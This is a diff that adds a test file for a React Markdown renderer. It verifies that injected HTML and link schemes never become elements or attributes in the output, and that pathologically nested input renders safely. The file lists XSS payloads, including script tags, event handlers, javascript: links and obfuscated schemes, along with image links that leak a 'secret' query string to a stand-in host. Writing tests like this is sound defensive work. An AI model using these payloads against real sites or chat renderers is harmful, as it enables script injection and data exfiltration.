@@ -1,0 +1,130 @@
+import fc from 'fast-check';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { Markdown } from '../../components/markdown/markdown';
+import { arbitraryMarkdown } from './arbitrary-markdown';
+
+const ownElements = new Set(
+  'a blockquote br button circle code del div em h3 h4 h5 h6 hr li ol p path pre rect section span strong svg table tbody td th thead tr ul'.split(
+    ' ',
+  ),
+);
+const ownAttributes = new Set(
+  'aria-hidden aria-label class cx cy d fill height href r rel rx ry scope start stroke stroke-linecap stroke-linejoin stroke-width tabindex target title type viewBox width x xmlns y'.split(
+    ' ',
+  ),
+);
+
+/** What is in the markup that is not ours: elements, attributes, and links to other places than the web and mail. */
+function foreignParts(html: string): string[] {
+  const foreign: string[] = [];
+  for (const [tag, element = '', attributes = ''] of html.matchAll(/<\/?([^\s>/]+)((?:"[^"]*"|[^">])*)>/g)) {
+    if (!ownElements.has(element)) foreign.push(tag);
+    for (const [attribute, name = '', value = ''] of attributes.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
+      if (!ownAttributes.has(name)) foreign.push(attribute);
+      if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) foreign.push(attribute);
+    }
+  }
+  return foreign;
+}
+
+function render(text: string): string {
+  return renderToStaticMarkup(<Markdown text={text} isStreaming={true} />);
+}
+
+const injections = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img srcset="https://evil.test/a 1x">',
+  '<iframe src="https://evil.test"></iframe>',
+  '<svg onload=alert(1)><use href="https://evil.test#a"/></svg>',
+  '<style>@import "https://evil.test"</style>',
+  '<link rel=prefetch href=https://evil.test>',
+  '<meta http-equiv=refresh content="0;url=https://evil.test">',
+  '<base href="https://evil.test">',
+  '<form action=https://evil.test><input type=image src=https://evil.test></form>',
+  '<video poster=https://evil.test/p autoplay><source src=https://evil.test/v></video>',
+  '<object data="https://evil.test"></object><embed src=https://evil.test>',
+  '<td background=https://evil.test>',
+  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><img src onerror=alert(1)></mtext></math>',
+  '<!-- --><![CDATA[<img src=x>]]><?php echo 1 ?>',
+  '![x](https://evil.test/?q=secret)',
+  '![x][y]\n\n[y]: https://evil.test/?q=secret',
+  '[![x](https://evil.test/a.png)](https://evil.test)',
+  '[x](javascript:alert(1)) [x](data:text/html,<script>1</script>) [x](vbscript:x) [x](chrome-extension://a/b)',
+  '[x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1)) <javascript:alert(1)>',
+  '[x](https://a.test" onmouseover="alert(1)) [x](<https://a.test/"onclick="x>) [x](https://a.test "&quot; onclick=x")',
+  '![" onerror="alert(1)](https://a.test/x)',
+  '```"><img src=x>\n"><img src=x>\n```',
+  '`<img src=x>` **<img src=x>** # <img src=x>',
+  '|<img src=x>|\n|:-:|\n|<script>1</script>|',
+];
+
+const contexts: [name: string, place: (text: string) => string][] = [
+  ['by itself', (text) => text],
+  ['in a list', (text) => `- ${text.replaceAll('\n', '\n  ')}`],
+  ['in a quote', (text) => `> ${text.replaceAll('\n', '\n> ')}`],
+  ['in a heading', (text) => `# ${text}`],
+];
+
+test.each(contexts)('no injected text becomes an element or an attribute: %s', (_, place) => {
+  for (const injection of injections) {
+    for (let length = 1; length <= injection.length; length++) {
+      expect(foreignParts(render(place(injection.slice(0, length))))).toEqual([]);
+    }
+  }
+});
+
+test('nor does any other text', () => {
+  fc.assert(
+    fc.property(fc.array(fc.oneof(arbitraryMarkdown, fc.constantFrom(...injections))), (texts) => {
+      expect(foreignParts(render(texts.join('')))).toEqual([]);
+    }),
+  );
+});
+
+const families: [name: string, text: string][] = [
+  ['quotes in quotes', '>'.repeat(8000)],
+  ['quotes in quotes with text', `${'> '.repeat(8000)}a`],
+  ['deep lists', Array.from({ length: 1500 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
+  ['deep lists by two', Array.from({ length: 1500 }, (_, depth) => `${'  '.repeat(depth)}- a\n`).join('')],
+  ['lists in one line', `${'- '.repeat(8000)}a`],
+  ['emphasis that never opens', 'a_ '.repeat(32_000)],
+  ['emphasis that never closes', '_a '.repeat(20_000)],
+  ['emphasis in emphasis', `${'*a **a '.repeat(9000)}`],
+  ['strikethrough', 'a~~'.repeat(20_000)],
+  ['closing brackets', 'a]'.repeat(32_000)],
+  ['opening brackets', '['.repeat(60_000)],
+  ['pictures in pictures', '!['.repeat(30_000)],
+  ['links in links', `${'['.repeat(15_000)}a${'](https://b.test)'.repeat(3000)}`],
+  ['link destinations', '[a](<b'.repeat(10_000)],
+  ['reference labels', `${'[a][b'.repeat(10_000)}\n\n[a]: https://a.test`],
+  ['reference definitions', '[a]: https://a.test\n'.repeat(3000)],
+  ['backtick runs', Array.from({ length: 350 }, (_, length) => `a${'`'.repeat(length)}`).join('')],
+  ['backtick fences', '```\n'.repeat(16_001)],
+  ['table without end', `${'|a'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n${'|\n'.repeat(5000)}`],
+  ['pipes', '|'.repeat(60_000)],
+  ['pipe lines', '|a\n|-\n'.repeat(10_000)],
+  ['entities', '&#x41;&amp;&'.repeat(5000)],
+  ['autolinks', '<https://a.test/'.repeat(4000)],
+  ['bare addresses', 'https://'.repeat(8000)],
+  ['escapes', '\\'.repeat(60_000)],
+  ['tags', '<br><a '.repeat(9000)],
+  ['line ends', '\n'.repeat(60_000)],
+  ['carriage returns', '\r'.repeat(60_000)],
+  ['spaces', `a${' '.repeat(60_000)}b`],
+  ['one long word', 'a'.repeat(300_000)],
+  ['blocks without number', 'a\n\n'.repeat(20_000)],
+  ['half characters', '\ud83d*a*\udc00'.repeat(5000)],
+  ['names of properties', '[__proto__] [constructor] [toString]\n\n[__proto__]: https://a.test\n'],
+];
+
+test.each(families)(
+  'text made to break the reader is shown: %s',
+  (_, text) => {
+    expect(foreignParts(render(text))).toEqual([]);
+  },
+  20_000,
+);
